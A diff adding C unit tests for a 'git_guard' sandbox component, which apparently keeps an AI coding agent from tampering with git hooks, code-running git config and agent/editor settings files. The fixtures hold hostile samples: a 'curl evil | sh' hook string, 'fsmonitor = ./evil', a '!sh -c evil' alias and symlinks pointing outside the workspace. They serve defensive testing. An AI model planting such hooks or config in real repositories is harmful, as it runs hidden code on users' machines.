@@ -6,7 +6,12 @@
  * however deep their names; never through a symlink; a .git file itself),
  * the mounts in a child's own namespace (writes refused there, renames of
  * the pinned directory too, the parent's view untouched), and the
- * quarantine of a commondir planted during the session.
+ * quarantine of a commondir planted during the session; a repository
+ * nested at any depth; at the end, a repository made during the session
+ * (hooks and code-running config keys held aside, the rest kept), the
+ * agent and editor files (the agent's version held aside, the original
+ * back), symlinks moved and never followed, the caps failing closed; the
+ * walk's cost on 50,000 files.
  */
 #define _GNU_SOURCE
 #include <errno.h>
@@ -22,6 +27,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/stat.h>
+#include <time.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
@@ -29,6 +35,7 @@
 
 struct fixture {
 	char ws[64];
+	char out[64];                   /* outside the workspace: must be left as it is */
 };
 
 static void put(const struct fixture *f, const char *rel, const char *text)
@@ -74,6 +81,9 @@ static int setup(void **state)
 	strcpy(f->ws, "/tmp/cordon-test-git.XXXXXX");
 	if (!mkdtemp(f->ws))
 		return -1;
+	strcpy(f->out, "/tmp/cordon-test-out.XXXXXX");
+	if (!mkdtemp(f->out))
+		return -1;
 	*state = f;
 	return 0;
 }
@@ -81,9 +91,9 @@ static int setup(void **state)
 static int teardown(void **state)
 {
 	struct fixture *f = *state;
-	char cmd[128];
+	char cmd[256];
 
-	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", f->ws);
+	snprintf(cmd, sizeof(cmd), "rm -rf '%s' '%s'", f->ws, f->out);
 	if (system(cmd) != 0)
 		return -1;
 	free(f);
@@ -273,6 +283,360 @@ static void check_quarantines_a_new_commondir(void **state)
 	git_guard_free(&g);
 }
 
+static char *slurp(const char *path)
+{
+	static char buf[4096];
+	FILE *fp = fopen(path, "r");
+	size_t n;
+
+	if (!fp)
+		return NULL;
+	n = fread(buf, 1, sizeof(buf) - 1, fp);
+	buf[n] = 0;
+	fclose(fp);
+	return buf;
+}
+
+static char *at(const struct fixture *f, const char *rel)
+{
+	static char p[4][PATH_MAX];
+	static int i;
+
+	i = (i + 1) % 4;
+	snprintf(p[i], sizeof(p[i]), "%s/%s", f->ws, rel);
+	return p[i];
+}
+
+static bool present(const char *path)
+{
+	struct stat st;
+
+	return lstat(path, &st) == 0;
+}
+
+/* A repository three levels down: pinned, and its config and hooks refuse writes. */
+static void nested_repo_at_depth_3_is_read_only(void **state)
+{
+	struct fixture *f = *state;
+	char why[512] = "";
+	struct git_guard g;
+	pid_t pid;
+	int st;
+
+	gitdir(f, ".git");
+	dir(f, "a");
+	dir(f, "a/b");
+	dir(f, "a/b/c");
+	gitdir(f, "a/b/c/.git");
+	assert_int_equal(git_guard_plan(f->ws, &g), 0);
+	assert_true(listed(g.dirs, g.n_dirs, f, "a/b/c/.git"));
+	assert_true(listed(g.ro, g.n_ro, f, "a/b/c/.git/config"));
+	assert_true(listed(g.ro, g.n_ro, f, "a/b/c/.git/hooks"));
+	if (geteuid() != 0) {
+		git_guard_free(&g);
+		skip();
+	}
+	pid = fork();
+	assert_true(pid >= 0);
+	if (pid == 0) {
+		int fd;
+
+		if (git_guard_apply(&g, why, sizeof(why)) < 0) {
+			fprintf(stderr, "apply: %s\n", why);
+			_exit(10);
+		}
+		fd = open(at(f, "a/b/c/.git/config"), O_WRONLY | O_APPEND);
+		if (fd >= 0 || errno != EROFS)
+			_exit(11);
+		fd = open(at(f, "a/b/c/.git/hooks/pre-commit"), O_WRONLY | O_CREAT, 0755);
+		if (fd >= 0 || errno != EROFS)
+			_exit(12);
+		if (rename(at(f, "a/b/c/.git"), at(f, "a/b/c/.git-old")) == 0 || errno != EBUSY)
+			_exit(13);
+		fd = open(at(f, "a/b/c/file"), O_WRONLY | O_CREAT, 0644);
+		if (fd < 0)
+			_exit(14);
+		close(fd);
+		_exit(0);
+	}
+	assert_int_equal(waitpid(pid, &st, 0), pid);
+	assert_true(WIFEXITED(st));
+	assert_int_equal(WEXITSTATUS(st), 0);
+	git_guard_free(&g);
+}
+
+struct held_log {
+	int n, what[64];
+	char path[64][PATH_MAX], moved[64][PATH_MAX + 192];
+	bool restored[64];
+};
+
+static void log_held(void *ctx, const struct git_guard_held *h)
+{
+	struct held_log *l = ctx;
+
+	if (l->n < 64) {
+		l->what[l->n] = h->what;
+		snprintf(l->path[l->n], sizeof(l->path[0]), "%s", h->path);
+		snprintf(l->moved[l->n], sizeof(l->moved[0]), "%s", h->moved_to ? h->moved_to : "");
+		l->restored[l->n] = h->restored;
+	}
+	l->n++;
+}
+
+static int find_held(const struct held_log *l, const char *path)
+{
+	for (int i = 0; i < l->n && i < 64; i++)
+		if (!strcmp(l->path[i], path))
+			return i;
+	return -1;
+}
+
+/* A repository cloned during the session: its hook and core.fsmonitor held aside, origin kept. */
+static void new_repo_hooks_and_config_held_aside(void **state)
+{
+	struct fixture *f = *state;
+	struct held_log *l = calloc(1, sizeof(*l));
+	struct git_guard g;
+	char *cfg;
+	int i;
+
+	gitdir(f, ".git");
+	assert_int_equal(git_guard_plan_session(f->ws, "s1", &g, NULL, 0), 0);
+	assert_int_equal(git_guard_end(&g, log_held, l), 0);
+
+	dir(f, "dep");
+	gitdir(f, "dep/.git");
+	put(f, "dep/.git/config", "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = ./evil\n"
+	    "[remote \"origin\"]\n\turl = https://example.com/dep.git\n"
+	    "[alias]\n\tst = status\n\tx = \"!sh -c evil\"\n");
+	put(f, "dep/.git/hooks/pre-commit", "#!/bin/sh\nevil\n");
+	put(f, "dep/.git/hooks/pre-push.sample", "#!/bin/sh\n");
+	assert_int_equal(git_guard_end(&g, log_held, l), 2);
+	i = find_held(l, at(f, "dep/.git/hooks/pre-commit"));
+	assert_true(i >= 0);
+	assert_int_equal(l->what[i], GIT_GUARD_HOOK);
+	assert_string_equal(l->moved[i], at(f, "dep/.git/cordon-held-s1/hooks/pre-commit"));
+	assert_false(present(at(f, "dep/.git/hooks/pre-commit")));
+	assert_true(present(at(f, "dep/.git/hooks/pre-push.sample")));
+	assert_string_equal(slurp(l->moved[i]), "#!/bin/sh\nevil\n");
+	i = find_held(l, at(f, "dep/.git/config"));
+	assert_true(i >= 0);
+	assert_int_equal(l->what[i], GIT_GUARD_CONFIG);
+	cfg = slurp(at(f, "dep/.git/config"));
+	assert_non_null(cfg);
+	assert_null(strstr(cfg, "fsmonitor"));
+	assert_null(strstr(cfg, "evil"));
+	assert_non_null(strstr(cfg, "[remote \"origin\"]\n\turl = https://example.com/dep.git\n"));
+	assert_non_null(strstr(cfg, "st = status"));
+	assert_non_null(strstr(cfg, "repositoryformatversion = 0"));
+	assert_non_null(strstr(slurp(at(f, "dep/.git/cordon-held-s1/config")), "fsmonitor = ./evil"));
+	/* Held once: a second end finds nothing more. */
+	l->n = 0;
+	assert_int_equal(git_guard_end(&g, log_held, l), 0);
+	git_guard_free(&g);
+	free(l);
+}
+
+/* Every watched file changed: the agent's version aside, the original back; created, deleted too. */
+static void watched_files_restored_and_held(void **state)
+{
+	static const char *const watched[] = { GIT_GUARD_WATCHED };
+	const size_t n = sizeof(watched) / sizeof(watched[0]);
+	struct fixture *f = *state;
+	struct held_log *l = calloc(1, sizeof(*l));
+	char orig[64], held[PATH_MAX];
+	struct git_guard g;
+	struct stat st;
+
+	for (size_t k = 0; k < n; k++) {
+		char d[64];
+
+		snprintf(d, sizeof(d), "%s", watched[k]);
+		if (strchr(d, '/')) {
+			*strchr(d, '/') = 0;
+			(void)mkdir(at(f, d), 0755);
+		}
+		snprintf(orig, sizeof(orig), "original %zu\n", k);
+		put(f, watched[k], orig);
+		assert_int_equal(chmod(at(f, watched[k]), 0640), 0);
+	}
+	/* A nested repository's top is watched too: created there. */
+	dir(f, "sub");
+	gitdir(f, "sub/.git");
+	put(f, "sub/.mcp.json", "{}\n");
+	assert_int_equal(git_guard_plan_session(f->ws, "s2", &g, NULL, 0), 0);
+	for (size_t k = 0; k < n; k++)
+		put(f, watched[k], "{\"hooks\": \"curl evil | sh\"}\n");
+	put(f, "sub/.claude-unwatched", "x\n");
+	dir(f, "sub/.claude");
+	put(f, "sub/.claude/settings.json", "{\"evil\": 1}\n");        /* created */
+	assert_int_equal(unlink(at(f, "sub/.mcp.json")), 0);          /* deleted */
+	assert_int_equal(git_guard_end(&g, log_held, l), (int)n + 2);
+	for (size_t k = 0; k < n; k++) {
+		int i = find_held(l, at(f, watched[k]));
+
+		snprintf(orig, sizeof(orig), "original %zu\n", k);
+		assert_true(i >= 0);
+		assert_int_equal(l->what[i], GIT_GUARD_FILE_CHANGED);
+		assert_true(l->restored[i]);
+		assert_string_equal(slurp(at(f, watched[k])), orig);
+		assert_int_equal(stat(at(f, watched[k]), &st), 0);
+		assert_int_equal(st.st_mode & 07777, 0640);
+		snprintf(held, sizeof(held), "%s.cordon-held-s2", at(f, watched[k]));
+		assert_string_equal(l->moved[i], held);
+		assert_string_equal(slurp(held), "{\"hooks\": \"curl evil | sh\"}\n");
+	}
+	assert_int_equal(l->what[find_held(l, at(f, "sub/.claude/settings.json"))],
+			 GIT_GUARD_FILE_CREATED);
+	assert_false(present(at(f, "sub/.claude/settings.json")));
+	assert_true(present(at(f, "sub/.claude/settings.json.cordon-held-s2")));
+	assert_int_equal(l->what[find_held(l, at(f, "sub/.mcp.json"))], GIT_GUARD_FILE_DELETED);
+	assert_string_equal(slurp(at(f, "sub/.mcp.json")), "{}\n");
+	assert_true(present(at(f, "sub/.claude-unwatched")));
+	git_guard_free(&g);
+	free(l);
+}
+
+/*
+ * Symlinks the agent planted: a new repository's hooks and config, a
+ * watched file's directory.  Each moved aside; what they point at (outside
+ * the workspace) is left exactly as it was.
+ */
+static void planted_symlinks_are_moved_not_followed(void **state)
+{
+	struct fixture *f = *state;
+	struct held_log *l = calloc(1, sizeof(*l));
+	char p[PATH_MAX], q[PATH_MAX];
+	struct git_guard g;
+	struct stat st;
+	int i;
+
+	snprintf(p, sizeof(p), "%s/hooks", f->out);
+	assert_int_equal(mkdir(p, 0755), 0);
+	snprintf(p, sizeof(p), "%s/hooks/post-checkout", f->out);
+	put(&(struct fixture){ .ws = "/" }, p + 1, "#!/bin/sh\nouter\n");
+	snprintf(p, sizeof(p), "%s/config", f->out);
+	put(&(struct fixture){ .ws = "/" }, p + 1, "[core]\n\tfsmonitor = outer\n");
+	snprintf(p, sizeof(p), "%s/tasks.json", f->out);
+	put(&(struct fixture){ .ws = "/" }, p + 1, "outer\n");
+	dir(f, ".vscode");
+	put(f, ".vscode/tasks.json", "mine\n");
+	assert_int_equal(git_guard_plan_session(f->ws, "s3", &g, NULL, 0), 0);
+
+	dir(f, "r");
+	dir(f, "r/.git");
+	put(f, "r/.git/HEAD", "ref: refs/heads/main\n");
+	snprintf(p, sizeof(p), "%s/hooks", f->out);
+	assert_int_equal(symlink(p, at(f, "r/.git/hooks")), 0);
+	snprintf(p, sizeof(p), "%s/config", f->out);
+	assert_int_equal(symlink(p, at(f, "r/.git/config")), 0);
+	assert_int_equal(unlink(at(f, ".vscode/tasks.json")), 0);
+	assert_int_equal(rmdir(at(f, ".vscode")), 0);
+	assert_int_equal(symlink(f->out, at(f, ".vscode")), 0);
+	/* The held directory's name, taken by a symlink to the outside: removed, not followed. */
+	assert_int_equal(symlink(f->out, at(f, "r/.git/cordon-held-s3")), 0);
+
+	assert_int_equal(git_guard_end(&g, log_held, l), 3);
+	i = find_held(l, at(f, "r/.git/hooks"));
+	assert_true(i >= 0);
+	assert_string_equal(l->moved[i], at(f, "r/.git/cordon-held-s3/hooks"));
+	assert_int_equal(lstat(l->moved[i], &st), 0);
+	assert_true(S_ISLNK(st.st_mode));
+	i = find_held(l, at(f, "r/.git/config"));
+	assert_true(i >= 0);
+	assert_int_equal(lstat(l->moved[i], &st), 0);
+	assert_true(S_ISLNK(st.st_mode));
+	i = find_held(l, at(f, ".vscode"));
+	assert_true(i >= 0);
+	assert_true(l->restored[i]);
+	assert_int_equal(lstat(at(f, ".vscode"), &st), 0);
+	assert_true(S_ISDIR(st.st_mode));
+	assert_string_equal(slurp(at(f, ".vscode/tasks.json")), "mine\n");
+	assert_int_equal(lstat(at(f, ".vscode.cordon-held-s3"), &st), 0);
+	assert_true(S_ISLNK(st.st_mode));
+	/* Outside: all there, unchanged, nothing added. */
+	snprintf(p, sizeof(p), "%s/hooks/post-checkout", f->out);
+	assert_string_equal(slurp(p), "#!/bin/sh\nouter\n");
+	snprintf(p, sizeof(p), "%s/config", f->out);
+	assert_string_equal(slurp(p), "[core]\n\tfsmonitor = outer\n");
+	snprintf(p, sizeof(p), "%s/tasks.json", f->out);
+	assert_string_equal(slurp(p), "outer\n");
+	snprintf(q, sizeof(q), "ls -A '%s' | wc -l | grep -qx 3", f->out);
+	assert_int_equal(system(q), 0);
+	git_guard_free(&g);
+	free(l);
+}
+
+/* Over a cap: the plan fails (-E2BIG), WHY names the cap; nothing half planned is left. */
+static void caps_fail_closed(void **state)
+{
+	struct fixture *f = *state;
+	char why[512] = "", p[256];
+	struct git_guard g;
+
+	for (int i = 0; i <= GIT_GUARD_MAX_REPOS; i++) {
+		snprintf(p, sizeof(p), "r%d", i);
+		dir(f, p);
+		snprintf(p, sizeof(p), "r%d/.git", i);
+		put(f, p, "gitdir: ../x\n");
+	}
+	assert_int_equal(git_guard_plan_session(f->ws, "c", &g, why, sizeof(why)), -E2BIG);
+	assert_non_null(strstr(why, "GIT_GUARD_MAX_REPOS"));
+	assert_int_equal(g.n_ro + g.n_dirs + g.n_watch, 0);
+
+	/* Entries: one directory with GIT_GUARD_MAX_ENTRIES more names (symlinks: cheap). */
+	dir(f, "many");
+	put(f, "many/0", "");
+	for (int i = 1; i <= GIT_GUARD_MAX_ENTRIES; i++) {
+		snprintf(p, sizeof(p), "%s/many/%d", f->ws, i);
+		assert_int_equal(symlink("0", p), 0);
+	}
+	why[0] = 0;
+	assert_int_equal(git_guard_plan_session(f->ws, "c", &g, why, sizeof(why)), -E2BIG);
+	assert_non_null(strstr(why, "GIT_GUARD_MAX_ENTRIES"));
+}
+
+/* The cost: 50,000 files in 500 directories, with 10 repositories. */
+static void plan_cost_on_50000_files(void **state)
+{
+	struct fixture *f = *state;
+	struct timespec a, b, c;
+	struct git_guard g;
+	char p[256];
+	double plan_ms, end_ms;
+
+	gitdir(f, ".git");
+	for (int d = 0; d < 500; d++) {
+		snprintf(p, sizeof(p), "d%d", d);
+		dir(f, p);
+		if (d % 50 == 0) {
+			snprintf(p, sizeof(p), "d%d/.git", d);
+			gitdir(f, p);
+		}
+		for (int i = 0; i < 100; i++) {
+			int fd;
+
+			snprintf(p, sizeof(p), "%s/d%d/f%d", f->ws, d, i);
+			fd = open(p, O_WRONLY | O_CREAT, 0644);
+			assert_true(fd >= 0);
+			close(fd);
+		}
+	}
+	clock_gettime(CLOCK_MONOTONIC, &a);
+	assert_int_equal(git_guard_plan(f->ws, &g), 0);
+	clock_gettime(CLOCK_MONOTONIC, &b);
+	assert_int_equal(git_guard_end(&g, log_held, &(struct held_log){ 0 }), 0);
+	clock_gettime(CLOCK_MONOTONIC, &c);
+	plan_ms = (b.tv_sec - a.tv_sec) * 1e3 + (b.tv_nsec - a.tv_nsec) / 1e6;
+	end_ms = (c.tv_sec - b.tv_sec) * 1e3 + (c.tv_nsec - b.tv_nsec) / 1e6;
+	assert_int_equal(g.n_dirs, 11);
+	assert_true(g.walked >= 50000);
+	fprintf(stderr, "# plan on %zu entries, 11 repositories: %.1f ms (warm cache); end: %.1f ms\n",
+		g.walked, plan_ms, end_ms);
+	git_guard_free(&g);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -280,6 +644,12 @@ int main(void)
 		cmocka_unit_test_setup_teardown(plan_symlinks_files_and_none, setup, teardown),
 		cmocka_unit_test_setup_teardown(apply_in_a_namespace, setup, teardown),
 		cmocka_unit_test_setup_teardown(check_quarantines_a_new_commondir, setup, teardown),
+		cmocka_unit_test_setup_teardown(nested_repo_at_depth_3_is_read_only, setup, teardown),
+		cmocka_unit_test_setup_teardown(new_repo_hooks_and_config_held_aside, setup, teardown),
+		cmocka_unit_test_setup_teardown(watched_files_restored_and_held, setup, teardown),
+		cmocka_unit_test_setup_teardown(planted_symlinks_are_moved_not_followed, setup, teardown),
+		cmocka_unit_test_setup_teardown(caps_fail_closed, setup, teardown),
+		cmocka_unit_test_setup_teardown(plan_cost_on_50000_files, setup, teardown),
 	};
 
 	return cmocka_run_group_tests_name("git_guard", tests, NULL, NULL);
